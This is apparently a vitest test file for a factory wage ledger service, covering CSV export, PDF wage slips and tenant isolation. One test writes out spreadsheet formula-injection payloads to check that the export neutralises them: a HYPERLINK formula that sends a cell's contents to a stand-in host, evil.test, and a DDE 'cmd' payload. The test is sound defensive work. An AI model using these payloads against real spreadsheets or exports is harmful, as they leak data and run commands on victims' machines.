import type { TestService } from '@platform/kernel/testing';
import { parse } from 'csv-parse/sync';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTenant, startFactory, type TestTenant } from './harness.js';
import { article, call, configureTenant, earn, worker } from './production-fixtures.js';

let svc: TestService;
let t: TestTenant;
let w: string;

beforeAll(async () => {
  svc = await startFactory();
  t = await createTenant(svc);
  await configureTenant(svc, t.id);
  w = await worker(svc, t, 'Śāntā Devi');
  const a = await article(svc, t);
  await earn(svc, t, a, w, 8); // 20.00
  await call(svc, t, 'POST', '/transaction/makePayment', { workerId: w, amount: 12.5 });
  await call(svc, t, 'POST', '/ledger/adjustment', { workerId: w, type: 'canteen', amount: -1.25 });
});
afterAll(() => svc?.close());

describe('the ledger as CSV and the wage slip', () => {
  it('exports every entry with a running balance', async () => {
    const res = await call(svc, t, 'GET', `/ledger/worker/${w}/csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse(res.body) as string[][];
    expect(rows[0]).toEqual([
      'date',
      'kind',
      'type',
      'description',
      'jobNumber',
      'article',
      'step',
      'quantity',
      'rate',
      'amount',
      'balance',
    ]);
    // Negative amounts stay numbers: a plain decimal is no formula.
    expect(rows.slice(2, 5).map((r) => r.slice(-2).join(' '))).toEqual([
      '20.00 20.00',
      '-12.50 7.50',
      '-1.25 6.25',
    ]);
  });

  it('neutralises cells a spreadsheet would run as formulas, and quotes every cell', async () => {
    const other = await createTenant(svc);
    await configureTenant(svc, other.id);
    const victim = await worker(svc, other, 'Meena');
    const hostile = [
      '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
      '+SUM(1,2)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      'Tea, "masala"\nand biscuits',
      '-12',
    ];
    for (const description of hostile) {
      const res = await call(svc, other, 'POST', '/ledger/adjustment', {
        workerId: victim,
        type: 'canteen',
        amount: -1,
        description,
      });
      expect(res.statusCode).toBe(201);
    }
    const res = await call(svc, other, 'GET', `/ledger/worker/${victim}/csv`);
    expect(res.statusCode).toBe(200);
    // Every cell quoted: the header line is quoted too.
    expect(res.body.split('\n')[0]).toBe(
      '"date","kind","type","description","jobNumber","article","step","quantity","rate","amount","balance"',
    );
    const rows = parse(res.body) as string[][];
    const descriptions = rows.slice(2).map((r) => r[3]);
    expect(descriptions).toEqual([
      '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")',
      "'+SUM(1,2)",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+1)",
      "'\t=1+1",
      "'\r=1+1",
      'Tea, "masala"\nand biscuits',
      '-12',
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(rows.slice(2).map((r) => r[9])).toEqual(Array(hostile.length).fill('-1.00'));
  });

  it('renders the period’s earnings, payments and closing balance as a PDF', async () => {
    const res = await call(svc, t, 'GET', `/worker/${w}/wage-slip`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const { text } = await extractText(await getDocumentProxy(new Uint8Array(res.rawPayload)), {
      mergePages: true,
    });
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('Wage slip Worker Śāntā Devi');
    expect(flat).toContain('#1 Shirt cutting 8 ₹2.50 ₹20.00');
    expect(flat).toContain('Payments −₹12.50');
    expect(flat).toContain('Balance owed at the end of the period ₹6.25');
  });

  it('refuses an inverted period and another tenant’s worker', async () => {
    expect(
      (await call(svc, t, 'GET', `/worker/${w}/wage-slip?from=2026-02-01&to=2026-01-01`)).statusCode,
    ).toBe(400);
    const other = await createTenant(svc);
    expect((await call(svc, other, 'GET', `/ledger/worker/${w}/csv`)).statusCode).toBe(404);
  });
});
